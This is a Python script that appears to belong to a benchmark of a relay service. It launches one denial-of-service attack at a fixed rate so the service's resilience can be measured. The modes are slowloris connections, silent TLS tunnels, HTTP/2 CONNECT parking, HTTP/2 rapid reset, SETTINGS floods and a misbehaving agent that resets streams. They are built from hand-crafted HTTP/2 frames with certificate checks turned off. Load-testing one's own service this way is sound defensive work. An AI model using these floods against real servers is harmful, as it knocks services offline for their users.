#!/usr/bin/python3
"""An attacker, for the special measurement "attacks": one kind, from one address, at a fixed rate.

Usage: attacks.py KIND HOST PORT ADDRESS TOKEN

  loris      holds many connections that say a byte now and then
  tunnels    completes TLS as an agent does, and never says hello
  park       asks for a service that no tunnel offers now, over HTTP/2
  reset      opens and resets streams over HTTP/2 (rapid reset)
  settings   floods SETTINGS, and reads no answer
  agent      as an owner's agent (TOKEN): resets each stream of a client of its own, for ever
  through    as that client: opens and resets streams through a tunnel whose agent says nothing

Prints {"ready": true}, goes on until its stdin ends, then prints what it did. Its rate is fixed so
that it takes a small and known part of the processors, which it shares with what is measured.
"""
import contextlib
import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TURN = 0.05         # seconds between two bursts
HEADERS, RST, SETTINGS, PING, ACK = 1, 3, 4, 6, 1
HELLO, ACCEPTED = 1, 3  # streams
CANCEL = struct.pack(">I", 8)
OVER = (OSError, ssl.SSLError)


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(authority):
    """A CONNECT's header block: literals, nothing indexed."""
    return b"\x02\x07CONNECT\x01" + bytes([len(authority)]) + authority.encode()


def field(name, value):
    """A literal of a header block, nothing indexed."""
    return b"".join(b"\0" * (i == 0) + bytes([len(x)]) + x.encode() for i, x in enumerate((name, value)))


class Agent:
    """An owner's agent, as far as a relay needs one; resets: each stream that it is given."""

    def __init__(self, tls, token, resets):
        self.tls, self.token, self.resets, self.heard, self.up = tls, token, resets, b"", False
        tls.sendall(frame(SETTINGS))

    def frames(self):
        at = 0 if self.up else len(PREFACE)  # what the relay begins with
        while len(self.heard) >= at + 9:
            end = at + 9 + int.from_bytes(self.heard[at:at + 3], "big")
            if len(self.heard) < end:
                break
            yield (self.heard[at + 3], self.heard[at + 4],
                   int.from_bytes(self.heard[at + 5:at + 9], "big"), self.heard[at + 9:end])
            self.up, at = True, end
        self.heard = self.heard[at:] if self.up else self.heard

    def answer(self, kind, flags, stream, payload):
        if kind in (SETTINGS, PING) and not flags & ACK:
            return frame(kind, ACK, 0, payload if kind == PING else b"")
        if kind != HEADERS:
            return b""
        if stream == HELLO:
            return frame(HEADERS, 5, stream, b"\x88" + b"".join(field(*f) for f in (
                ("attest-token", self.token), ("attest-instance", "attack"),
                ("attest-generation", str(time.time_ns() // 1000)), ("attest-service", "x"))))
        if stream == ACCEPTED:
            return frame(HEADERS, 5, stream, b"\x89")
        return frame(RST, 0, stream, CANCEL) if self.resets else b""

    def turn(self):
        """All that has come by now."""
        while self.tls.pending() or select.select([self.tls], [], [], 0)[0]:
            got = self.tls.recv(262144)
            if not got:
                raise ConnectionResetError
            self.heard += got
            self.tls.sendall(b"".join(self.answer(*f) for f in self.frames()))


class Attacker:
    def __init__(self, host, port, address, token):
        self.at, self.address, self.token, self.its_agent = (host, int(port)), address, token, None
        self.done, self.conns, self.stream = 0, [], 1
        self.context = ssl.create_default_context()
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        self.context.set_alpn_protocols(["attest-relay/1"])

    def dial(self):
        s = socket.create_connection(self.at, 5, (self.address, 0))
        s.settimeout(0.5)
        return s

    def forget(self, s):
        with contextlib.suppress(OSError):
            s.close()
        self.conns.remove(s)

    def loris(self):
        for s in self.conns[:10]:
            try:
                s.send(b"C")
                self.conns.append(self.conns.pop(0))
            except OVER:
                self.forget(s)
        for _ in range(min(20, 2000 - len(self.conns))):
            self.conns.append(self.dial())
            self.done += 1

    def tunnels(self):
        self.conns.append(self.context.wrap_socket(self.dial(), server_hostname="bench.example"))
        self.done += 1

    def session(self):
        """The one there is, or a new one; what it was told is read and thrown away."""
        if self.conns:
            try:
                while select.select([self.conns[0]], [], [], 0)[0]:
                    if not self.conns[0].recv(262144):
                        raise ConnectionResetError
                return self.conns[0]
            except OVER:
                self.forget(self.conns[0])
        self.conns.append(self.dial())
        self.conns[0].sendall(PREFACE + frame(SETTINGS))
        self.stream = 1
        return self.conns[0]

    def burst(self, n, then=b"", service="nothing.acme"):
        s, block, out = self.session(), connect(service), []
        for _ in range(n):
            out.append(frame(HEADERS, 4, self.stream, block))
            if then:
                out.append(frame(RST, 0, self.stream, then))
            self.stream += 2
        s.sendall(b"".join(out))
        self.done += n

    def park(self):
        self.burst(100)

    def reset(self):
        self.burst(100, CANCEL)

    def by_tunnel(self, resets, then):
        if not self.its_agent:
            self.its_agent = Agent(self.context.wrap_socket(self.dial(), server_hostname="bench.example"),
                                   self.token, resets)
        try:
            self.its_agent.turn()
        except OVER:
            self.its_agent = None
            raise
        self.burst(100, then, "x.mallory")

    def agent(self):
        self.by_tunnel(True, b"")

    def through(self):
        self.by_tunnel(False, CANCEL)

    def settings(self):
        if not self.conns:
            self.session()
        self.conns[0].sendall(frame(SETTINGS) * 500)
        self.done += 500

    def run(self, kind):
        ready = False
        while True:
            begin = time.monotonic()
            try:
                getattr(self, kind)()
            except OVER:  # refused or ended, which is what is to happen: again
                if kind not in ("loris", "tunnels") and self.conns:
                    self.forget(self.conns[0])
            if not ready:
                print(json.dumps({"ready": True}), flush=True)
                ready = True
            left = max(0.0, TURN - (time.monotonic() - begin))
            if select.select([sys.stdin], [], [], left)[0] and not sys.stdin.read(1):
                break
        print(json.dumps({"done": self.done, "cpu_seconds": time.process_time()}), flush=True)


if __name__ == "__main__":
    Attacker(*sys.argv[2:6]).run(sys.argv[1])
